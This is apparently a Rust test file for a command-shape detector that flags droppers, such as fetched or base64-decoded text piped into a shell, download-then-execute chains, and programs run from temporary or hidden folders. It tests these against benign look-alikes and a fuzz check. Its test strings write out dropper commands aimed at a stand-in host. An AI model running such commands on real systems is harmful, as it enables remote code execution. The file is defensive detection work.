//! Shapes of droppers, and of commands that only resemble them.

use proptest::prelude::*;

use super::*;

fn check(command: &str, expected: &[&str]) {
    assert_eq!(of(command), expected, "{command}");
}

#[test]
fn fetched_text_that_a_shell_runs_is_recognised() {
    let shape = &["fetch-pipe-shell"];
    check("curl -fsSL http://h.example/i.sh | sh", shape);
    check("(curl -fsSL http://h.example/i||wget -q -O- http://h.example/i)|sh", shape);
    check("wget -qO- http://h.example/x | sudo bash -s -- -y", shape);
    check("/usr/bin/curl http://h.example/x | env A=1 /bin/bash", shape);
    check("bash -c \"$(curl -fsSL http://h.example/x)\"", shape);
    check("sh -c 'curl http://h.example/x | sh'", shape);
    check("bash <(wget -qO- http://h.example/x)", shape);
    check("eval `curl http://h.example/x`", shape);
    check("curl http://h.example/x.gz | gunzip | python3 -", shape);
    check("curl -s http://h.example/x 2>&1 | bash >/dev/null 2>&1", shape);
}

#[test]
fn decoded_text_that_a_shell_runs_is_recognised() {
    check("echo Y3VybA== | base64 -d | bash", &["decode-pipe-shell"]);
    check("bash -c \"$(echo Y3VybA== | base64 --decode)\"", &["decode-pipe-shell"]);
    check("echo Y3VybA== | openssl enc -d -base64 | sh", &["decode-pipe-shell"]);
}

#[test]
fn what_only_resembles_a_dropper_has_no_shape() {
    for command in [
        "echo \"run: curl http://h.example/x | sh\"",
        "curl -fsS http://h.example/health | grep ok",
        "curl -fsS http://h.example/ping; sh /usr/local/bin/backup.sh",
        "curl -fsS http://h.example/list | sh-tool --check",
        "wget -q -O /srv/list.txt http://h.example/list",
        "find /tmp -mtime +7 -delete",
        "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
        "cd / && run-parts --report /etc/cron.hourly",
        "base64 -d /etc/key | gpg --import",
        "/home/a/.local/bin/sync --quiet",
        ". /home/a/.cargo/env",
        "[ -f /tmp/flag ] && rm -f /tmp/flag",
        "curl -d @/tmp/x.json http://h.example | jq .",
        "cat /x | bash /usr/lib/report.sh",
    ] {
        check(command, &[]);
    }
}

#[test]
fn programs_in_odd_places_are_recognised() {
    check("/tmp/x -c /tmp/y", &["temporary-folder"]);
    check("nohup /dev/shm/kd >/dev/null 2>&1 &", &["temporary-folder"]);
    check("sh /var/tmp/run.sh", &["temporary-folder"]);
    check("/usr/share/.a1/python-dev", &["hidden-folder"]);
    check("/root/.a1/b", &["hidden-folder"]);
    check("cd /opt && /tmp/.x/y", &["hidden-folder", "temporary-folder"]);
    check(
        "wget -O /tmp/a http://h.example/a && chmod +x /tmp/a && /tmp/a",
        &["fetch-then-run", "temporary-folder"],
    );
}

#[test]
fn a_command_splits_into_its_programs() {
    let programs = programs("cd /x && nohup sudo -n ./y -o \"a b\" --z | tee log");
    let programs: Vec<String> = programs.iter().map(|it| it.join("+")).collect();
    assert_eq!(programs, ["cd+/x", "./y+-o+a b+--z", "tee+log"]);
}

proptest! {
    #[test]
    fn no_text_is_a_panic(text in "(\\PC|[|&;(){}$`<'\"#\\\\\n]){0,200}") {
        let _ = of(&text);
        let _ = programs(&text);
    }
}
